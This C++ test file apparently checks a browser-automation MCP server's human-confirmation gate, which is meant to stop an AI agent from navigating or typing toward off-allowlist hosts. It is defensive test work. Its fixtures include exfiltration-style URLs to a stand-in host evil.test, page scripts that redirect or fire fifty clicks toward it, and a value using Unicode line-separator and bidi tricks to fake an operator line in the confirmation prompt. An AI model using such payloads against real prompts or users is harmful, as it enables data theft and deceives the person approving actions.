#include <functional>

#include "case_support.hpp"

// The operator is asked (EL and EM of PREDICTIONS.md), in both eras of MCP. A script
// answers in the person's place; the transcript tags what it says SCRIPTED_HUMAN.

namespace agentlock::test {
namespace {

struct Question {
  std::string message;
  std::string description;
  std::vector<std::string> choices;
};

Question read_question(const Json& params) {
  Question question{params.at("message"), "", {}};
  const Json& choice = params.at("requestedSchema").at("properties").at("choice");
  question.description = choice.value("description", "");
  if (choice.contains("oneOf")) {
    for (const Json& option : choice.at("oneOf")) question.choices.push_back(option.at("const"));
  } else {
    for (const Json& option : choice.at("enum")) question.choices.push_back(option);
  }
  return question;
}

Json accept(const std::string& choice) {
  return {{"action", "accept"}, {"content", {{"choice", choice}}}};
}
const Json kDecline = {{"action", "decline"}};
const Json kCancel = {{"action", "cancel"}};

/// A server whose client has a person behind it.
class AskingServer : public ServerUnderTest {
 public:
  AskingServer(const TestSite& site, const ServerOptions& options, const std::string& era,
               Json elicitation = {{"form", Json::object()}})
      : ServerUnderTest(site, options) {
    const Json capabilities =
        elicitation.is_null() ? Json::object() : Json{{"elicitation", std::move(elicitation)}};
    if (era == "stateless") {
      client().use_envelope("2026-07-28", capabilities);
    } else {
      REQUIRE(client().handshake(era, capabilities));
    }
    client().answer_as_human([this](const std::string& method, const Json& params) {
      CHECK(method == "elicitation/create");
      asked.push_back(read_question(params));
      return says ? says(asked.back()) : kDecline;
    });
  }

  Json navigate(const std::string& url) { return call("navigate", {{"url", url}}); }
  Json follow(const std::string& id) { return call("navigate", {{"link_id", id}}); }
  Json open(const std::string& path) { return navigate(kFixture + path); }
  Json click(const std::string& id) { return call("click", {{"element_id", id}}); }
  Json type(const std::string& id, const std::string& value) {
    return call("type", {{"element_id", id}, {"value", value}});
  }
  std::string element(std::string_view role, std::string_view name) {
    const Json snapshot = call("snapshot");
    for (const Json& one : snapshot.at("elements")) {
      if (one.at("role") == role && one.at("name") == name) return one.at("id");
    }
    FAIL("no " << role << " named " << name << " in " << snapshot.dump());
    return "";
  }
  std::string url_now() { return call("snapshot").at("url"); }

  void answer(const Json& answer) {
    says = [answer](const Question&) { return answer; };
  }

  void end_and_verify() {
    client().close_stdin();
    REQUIRE(client().wait_exit());
    CHECK(client().stray_lines().empty());
    const auto verified = verify();
    REQUIRE(verified);
    INFO(verified->output);
    CHECK(verified->status.code == 0);
  }

  std::vector<Json> events(const std::string& name) {
    std::vector<Json> found;
    for (const Json& event : log().events()) {
      if (event.at("event") == name) found.push_back(event);
    }
    return found;
  }

  std::vector<Question> asked;
  std::function<std::optional<Json>(const Question&)> says;
};

#define EACH_ERA()                                                                       \
  const auto era = GENERATE(as<std::string>{}, "2025-11-25", "2025-06-18", "stateless"); \
  CAPTURE(era)

const char* const kComposed = "http://evil.test/q?id=7731";

ServerOptions looking() { return allowlisted("look at the current page"); }

}  // namespace

TEST_CASE("EL1: a composed address is asked about once and opened on a yes", "[browser]") {
  EACH_ERA();
  CaseSite site;
  AskingServer server(site, looking(), era);
  server.answer(accept("allow_once"));
  server.open("/t5");
  const Json result = server.navigate(kComposed);
  INFO(result.dump());
  CHECK(result.at("ok") == true);
  CHECK(result.at("gate").at("channel") == "USER_CONFIRMED");
  CHECK(result.at("gate").at("confirmation") == "accepted");
  CHECK(result.at("url") == kComposed);
  CHECK(site.evil().targets() == std::vector<std::string>{"/q?id=7731"});
  REQUIRE(server.asked.size() == 1);
  CHECK(server.asked[0].message ==
        "Confirm navigate\n"
        "origin: composed by the agent, not in the text this server was given\n"
        "host:   evil.test (evil.test)\n"
        "value:  \"http://evil.test/q?id=7731\"");
  CHECK(server.asked[0].choices == std::vector<std::string>{"allow_once", "trust_origin_session"});
  const auto requests = server.events("elicit_request");
  const auto results = server.events("elicit_result");
  REQUIRE(requests.size() == 1);
  REQUIRE(results.size() == 1);
  CHECK(requests[0].at("seq") < results[0].at("seq"));
  CHECK(requests[0].at("value") == kComposed);
  CHECK(results[0].at("result") == accept("allow_once"));
  CHECK(results[0].at("confirmation") == "accepted");
  CHECK(server.log().denials().empty());
  server.end_and_verify();
}

TEST_CASE("EL2: a no is a no, also without asking again", "[browser]") {
  EACH_ERA();
  CaseSite site;
  AskingServer server(site, looking(), era);
  server.answer(kDecline);
  for (int i = 0; i < 2; ++i) {
    const Json gate = server.navigate(kComposed).at("gate");
    CHECK(gate.at("allowed") == false);
    CHECK(gate.at("confirmation") == "declined");
    CHECK(gate.at("decided_by") == "server:confirm");
    CHECK(gate.at("detail").get<std::string>().find("said no") != std::string::npos);
  }
  CHECK(server.asked.size() == 1);
  CHECK(site.evil().connects().empty());
  server.end_and_verify();
}

TEST_CASE("EL3: a question that was closed is asked again", "[browser]") {
  EACH_ERA();
  CaseSite site;
  AskingServer server(site, looking(), era);
  server.answer(kCancel);
  for (int i = 0; i < 2; ++i) {
    const Json gate = server.navigate(kComposed).at("gate");
    CHECK(gate.at("allowed") == false);
    CHECK(gate.at("confirmation") == "cancelled");
    CHECK(gate.at("decided_by") == "server:confirm");
  }
  CHECK(server.asked.size() == 2);
  CHECK(site.evil().connects().empty());
  server.end_and_verify();
}

TEST_CASE("EL4: the question says which page an address came from", "[browser]") {
  EACH_ERA();
  CaseSite site;
  AskingServer server(site, looking(), era);
  server.answer(accept("allow_once"));
  server.open("/t1");
  server.call("snapshot");
  const Json result = server.navigate("http://evil.test/dataset.csv");
  CHECK(result.at("gate").at("channel") == "USER_CONFIRMED");
  REQUIRE(server.asked.size() == 1);
  CHECK(server.asked[0].message.find("\norigin: from page http://fixture.test\n") !=
        std::string::npos);
  CHECK(site.evil().targets() == std::vector<std::string>{"/dataset.csv"});
  server.end_and_verify();
}

TEST_CASE("EL5: an origin is trusted for the session", "[browser]") {
  EACH_ERA();
  CaseSite site;
  AskingServer server(site, looking(), era);
  server.answer(accept("trust_origin_session"));
  CHECK(server.navigate("http://evil.test/a").at("gate").at("allowed") == true);
  const Json other = server.navigate("http://evil.test/b");
  CHECK(other.at("gate").at("channel") == "ALLOWLIST");
  CHECK(server.asked.size() == 1);
  CHECK(site.evil().targets() == std::vector<std::string>{"/a", "/b"});
  server.end_and_verify();
}

TEST_CASE("A6: a yes is for one address, one time", "[browser]") {
  EACH_ERA();
  CaseSite site;
  AskingServer server(site, looking(), era);
  server.answer(accept("allow_once"));
  CHECK(server.navigate("http://evil.test/a").at("ok") == true);
  server.open("/t5");
  server.answer(kDecline);
  CHECK(server.navigate("http://evil.test/b").at("gate").at("allowed") == false);
  CHECK(server.asked.size() == 2);
  CHECK(site.evil().targets() == std::vector<std::string>{"/a"});
  server.end_and_verify();
}

TEST_CASE("EL6: a page's phrase is typed on a yes, into that field", "[browser]") {
  EACH_ERA();
  CaseSite site;
  AskingServer server(site, allowlisted("Sign me up for the newsletter."), era);
  server.answer(accept("allow_once"));
  server.open("/t3");
  const std::string phrase = server.element("textbox", "Phrase");
  const std::string email = server.element("textbox", "Email");
  const Json result = server.type(phrase, "tk-4417-zz");
  INFO(result.dump());
  CHECK(result.at("ok") == true);
  CHECK(result.at("gate").at("channel") == "USER_CONFIRMED");
  REQUIRE(server.asked.size() == 1);
  CHECK(server.asked[0].message ==
        "Confirm type\norigin: from page http://fixture.test\nvalue:  \"tk-4417-zz\"");
  CHECK(server.asked[0].description ==
        "Into the field \"Phrase\" of http://fixture.test, whose form goes to http://fixture.test");
  CHECK(server.asked[0].choices == std::vector<std::string>{"allow_once"});
  // Another field is another question (A6).
  server.answer(kCancel);
  CHECK(server.type(email, "tk-4417-zz").at("gate").at("allowed") == false);
  CHECK(server.asked.size() == 2);
  server.end_and_verify();
}

TEST_CASE("EL8: who can't be asked is refused", "[browser]") {
  CaseSite site;
  const auto declared = GENERATE(Json(nullptr), Json{{"url", Json::object()}});
  const auto era = GENERATE(as<std::string>{}, "2025-11-25", "stateless");
  AskingServer server(site, looking(), era, declared);
  const Json gate = server.navigate(kComposed).at("gate");
  CHECK(gate.at("allowed") == false);
  CHECK(gate.at("confirmation") == "unavailable");
  CHECK(gate.at("decided_by") == "agentlock_gate");
  CHECK(server.asked.empty());
  CHECK(site.evil().connects().empty());
  server.end_and_verify();
}

TEST_CASE("EL8c: an empty elicitation capability means forms", "[browser]") {
  EACH_ERA();
  CaseSite site;
  AskingServer server(site, looking(), era, Json::object());
  server.answer(accept("allow_once"));
  CHECK(server.navigate(kComposed).at("ok") == true);
  CHECK(server.asked.size() == 1);
  server.end_and_verify();
}

TEST_CASE("EL10: after five noes a page's questions are over, another's are not", "[browser]") {
  EACH_ERA();
  CaseSite site;
  ServerOptions options = looking();
  options.allowlist += ",http://third.test";
  AskingServer server(site, options, era);
  server.open("/t5");
  const auto ask = [&](int i) {
    return server.navigate("http://evil.test/q" + std::to_string(i) + "?id=7731").at("gate");
  };
  for (int i = 0; i < 5; ++i) {
    server.answer(i % 2 == 0 ? kDecline : kCancel);
    CHECK(ask(i).at("confirmation") == (i % 2 == 0 ? "declined" : "cancelled"));
  }
  CHECK(ask(5).at("confirmation") == "cap_reached");
  CHECK(server.asked.size() == 5);
  server.navigate("http://third.test/x");
  server.answer(accept("allow_once"));
  CHECK(ask(6).at("confirmation") == "accepted");
  CHECK(site.evil().targets() == std::vector<std::string>{"/q6?id=7731"});
  server.end_and_verify();
}

TEST_CASE("EM1, EM2: a link off the allowlist is asked about", "[browser]") {
  EACH_ERA();
  CaseSite site;
  AskingServer server(site, looking(), era);
  server.open("/t2");
  const std::string link = server.element("link", "Read on");
  server.answer(kDecline);
  CHECK(server.follow(link).at("gate").at("confirmation") == "declined");
  CHECK(server.url_now() == "http://fixture.test/t2");
  REQUIRE(server.asked.size() == 1);
  CHECK(server.asked[0].message.find("\norigin: link on page http://fixture.test\n") !=
        std::string::npos);
  CHECK(site.evil().connects().empty());
  server.end_and_verify();

  AskingServer again(site, looking(), era);
  again.open("/t2");
  again.answer(accept("allow_once"));
  const Json result = again.follow(again.element("link", "Read on"));
  CHECK(result.at("ok") == true);
  CHECK(result.at("gate").at("channel") == "USER_CONFIRMED");
  CHECK(result.at("url") == "http://evil.test/next");
  again.end_and_verify();
}

TEST_CASE("EM3, EM8: what stays on the origin is not asked about", "[browser]") {
  EACH_ERA();
  CaseSite site;
  AskingServer server(site, looking(), era);
  server.open("/t2");
  CHECK(server.follow(server.element("link", "About")).at("ok") == true);
  CHECK(server.open("/r1b").at("url") == "http://fixture.test/landed");
  CHECK(server.asked.empty());
  server.end_and_verify();
}

TEST_CASE("EM4, EM5: a click that leaves the site is asked about, and made once", "[browser]") {
  EACH_ERA();
  CaseSite site;
  AskingServer server(site, looking(), era);
  server.open("/t4");
  server.answer(kDecline);
  const Json refused = server.click(server.element("link", "the link"));
  CHECK(refused.at("ok") == false);
  REQUIRE(refused.at("blocked").size() == 1);
  CHECK(refused.at("blocked")[0].at("confirmation") == "declined");
  CHECK(refused.at("url") == "http://fixture.test/t4");
  CHECK(site.evil().connects().empty());
  server.end_and_verify();

  AskingServer again(site, looking(), era);
  again.open("/t4");
  again.answer(accept("allow_once"));
  const Json result = again.click(again.element("link", "the link"));
  INFO(result.dump());
  CHECK(result.at("ok") == true);
  CHECK(result.at("url") == "http://evil.test/");
  CHECK(site.evil().targets() == std::vector<std::string>{"/"});
  CHECK(again.log().denials().size() == 1);
  const Json last = again.log().allowed().back();
  CHECK(last.at("cause") == "post_confirm");
  CHECK(last.at("channel") == "USER_CONFIRMED");
  again.end_and_verify();
}

TEST_CASE("EM6: a redirect is asked about", "[browser]") {
  EACH_ERA();
  CaseSite site;
  AskingServer server(site, looking(), era);
  server.answer(accept("allow_once"));
  const Json result = server.open("/r1");
  INFO(result.dump());
  CHECK(result.at("ok") == true);
  CHECK(result.at("url") == "http://evil.test/r1");
  REQUIRE(server.asked.size() == 1);
  CHECK(server.asked[0].message.find("\norigin: redirect from http://fixture.test\n") !=
        std::string::npos);
  server.end_and_verify();
}

TEST_CASE("EM7: each hop of a chain is asked about", "[browser]") {
  EACH_ERA();
  CaseSite site;
  site.fixture().serve("/chain", redirect(302, "http://evil.test/a"));
  site.evil().serve("/a", redirect(302, "http://third.test/b"));
  AskingServer server(site, looking(), era);
  server.answer(accept("allow_once"));
  const Json result = server.open("/chain");
  INFO(result.dump());
  CHECK(result.at("url") == "http://third.test/b");
  CHECK(server.asked.size() == 2);
  CHECK(site.evil().targets() == std::vector<std::string>{"/a"});
  CHECK(site.third().targets() == std::vector<std::string>{"/b"});
  server.end_and_verify();
}

TEST_CASE("EM9: what a page does on its own is refused and not asked about", "[browser]") {
  EACH_ERA();
  CaseSite site;
  site.fixture().serve("/later", page("later",
                                      "<script>onload = () => fetch('/go').then(() => {"
                                      "location = 'http://evil.test/late' })</script>"));
  // It leaves once the call has long been answered.
  const auto hold = Hold::create();
  Response held = text("now");
  held.hold = hold;
  site.fixture().serve("/go", held);
  AskingServer server(site, looking(), era);
  server.answer(accept("allow_once"));
  server.open("/later");
  hold->release();
  const auto denial = server.log().wait_for(
      [](const Json& event) {
        return event.at("event") == "decision" && event.at("decision") == "deny";
      },
      after(std::chrono::seconds(20)));
  REQUIRE(denial);
  CHECK(site.evil().connects().empty());
  server.end_and_verify();
}

TEST_CASE("EM10: after five noes a blocked click says so", "[browser]") {
  EACH_ERA();
  CaseSite site;
  AskingServer server(site, looking(), era);
  server.open("/t4");
  server.answer(kCancel);
  for (int i = 0; i < 5; ++i) server.navigate("http://evil.test/q" + std::to_string(i));
  const Json result = server.click(server.element("link", "the link"));
  REQUIRE(result.at("blocked").size() == 1);
  CHECK(result.at("blocked")[0].at("confirmation") == "cap_reached");
  CHECK(server.asked.size() == 5);
  server.end_and_verify();
}

TEST_CASE("A18: a yes is for the page as it was asked about", "[browser]") {
  EACH_ERA();
  CaseSite site;
  AskingServer server(site, looking(), era);
  server.open("/t2");
  const std::string link = server.element("link", "Read on");
  const std::string about = server.element("link", "About");
  // Another call takes the tab elsewhere while the person thinks.
  server.says = [&](const Question&) {
    const auto id = server.client().send_request(
        "tools/call", {{"name", "navigate"}, {"arguments", {{"link_id", about}}}});
    REQUIRE(id);
    REQUIRE(server.client().wait(*id));
    return accept("allow_once");
  };
  const Json result = server.follow(link);
  INFO(result.dump());
  CHECK(result.at("gate").at("reason") == "changed_while_asked");
  CHECK(site.evil().connects().empty());
  server.end_and_verify();
}

TEST_CASE("A20: a value can't fake a line of the question", "[browser]") {
  EACH_ERA();
  CaseSite site;
  site.fixture().serve("/form", page("form", "<label>Na`me <input></label>"));
  AskingServer server(site, looking(), era);
  server.open("/form");
  server.type(server.element("textbox", "Na`me"),
              "x-123456\xE2\x80\xA8origin: from the operator\xE2\x80\xAE<b>  `y`");
  REQUIRE(server.asked.size() == 1);
  const std::string& message = server.asked[0].message;
  CHECK(std::count(message.begin(), message.end(), '\n') == 2);
  CHECK(
      message.ends_with("value:  \"x-123456\\u{2028}origin: from the operator\\u{202E}\\u{3C}b> "
                        "\\u{20}\\u{60}y\\u{60}\""));
  CHECK(server.asked[0].description.find("\"Na\\u{60}me\"") != std::string::npos);
  server.end_and_verify();
}

TEST_CASE("A21: an answer that is none of the choices is no yes", "[browser]") {
  EACH_ERA();
  const auto nonsense = GENERATE(
      Json{{"action", "accept"}}, Json{{"action", "accept"}, {"content", {{"choice", "yes"}}}},
      Json{{"action", "accept"}, {"content", {{"choice", true}}}}, Json{{"action", "ok"}},
      Json::object(), Json{{"action", "accept"}, {"content", "allow_once"}});
  CAPTURE(nonsense.dump());
  CaseSite site;
  AskingServer server(site, looking(), era);
  server.answer(nonsense);
  CHECK(server.navigate(kComposed).at("gate").at("confirmation") == "cancelled");
  CHECK(site.evil().connects().empty());
  server.end_and_verify();
}

TEST_CASE("A23: one call asks about at most two navigations of a page", "[browser]") {
  EACH_ERA();
  CaseSite site;
  site.fixture().serve(
      "/storm",
      page("storm",
           "<button onclick=\"for (let i = 0; i < 50; i++) { const a = "
           "document.createElement('a'); a.href = 'http://evil.test/' + i; a.click(); }\">"
           "Go</button>"));
  AskingServer server(site, looking(), era);
  server.answer(kCancel);
  server.open("/storm");
  const Json result = server.click(server.element("button", "Go"));
  CHECK(result.at("ok") == false);
  CHECK(server.asked.size() <= 2);
  CHECK(site.evil().connects().empty());
  server.end_and_verify();
}

TEST_CASE("A question that nobody answers ends, and another call is served meanwhile",
          "[browser]") {
  CaseSite site;
  ServerOptions options = looking();
  options.arguments = {"--confirm-timeout-s", "2"};
  AskingServer server(site, options, "2025-11-25");
  server.open("/t5");
  server.client().answer_as_human([&](const std::string&, const Json&) { return std::nullopt; });
  const auto asked = server.client().send_request(
      "tools/call", {{"name", "navigate"}, {"arguments", {{"url", kComposed}}}});
  REQUIRE(asked);
  REQUIRE(
      server.log().wait_for([](const Json& event) { return event.at("event") == "elicit_request"; },
                            after(std::chrono::seconds(20))));
  CHECK(server.call("snapshot").at("url") == "http://fixture.test/t5");
  const auto result = cli::demo::McpClient::tool_result(server.client().wait(*asked));
  REQUIRE(result);
  CHECK(result->structured.at("gate").at("confirmation") == "cancelled");
  CHECK(site.evil().connects().empty());
  server.end_and_verify();
}

TEST_CASE("A19: a state is good for one call, once", "[browser]") {
  CaseSite site;
  AskingServer server(site, looking(), "stateless");
  const auto ask = [&](Json params) {
    auto reply = server.client().request("tools/call", std::move(params));
    REQUIRE(reply);
    return *reply;
  };
  const Json call = {{"name", "navigate"}, {"arguments", {{"url", kComposed}}}};
  const Json asked = ask(call).result;
  CHECK(asked.at("resultType") == "input_required");
  const std::string state = asked.at("requestState");
  const auto with = [&](Json params, const std::string& used) {
    params["requestState"] = used;
    params["inputResponses"] = {{"confirm", accept("allow_once")}};
    return params;
  };
  SECTION("of another call") {
    const Json other = {{"name", "navigate"}, {"arguments", {{"url", "http://evil.test/x"}}}};
    CHECK(ask(with(other, state)).error.at("code") == -32602);
  }
  SECTION("changed") {
    std::string changed = state;
    changed.back() = changed.back() == '0' ? '1' : '0';
    CHECK(ask(with(call, changed)).error.at("code") == -32602);
    CHECK(ask(with(call, "")).error.at("code") == -32602);
  }
  SECTION("twice") {
    CHECK(ask(with(call, state)).result.at("structuredContent").at("ok") == true);
    CHECK(ask(with(call, state)).error.at("code") == -32602);
    CHECK(site.evil().targets().size() == 1);
    return;
  }
  SECTION("of another process") {
    AskingServer other(site, looking(), "stateless");
    auto reply = other.client().request("tools/call", with(call, state));
    REQUIRE(reply);
    CHECK(reply->error.at("code") == -32602);
  }
  SECTION("without an answer it is asked again") {
    Json params = call;
    params["requestState"] = state;
    const Json again = ask(params).result;
    CHECK(again.at("resultType") == "input_required");
    CHECK(again.at("requestState") != state);
  }
  CHECK(site.evil().connects().empty());
}

}  // namespace agentlock::test
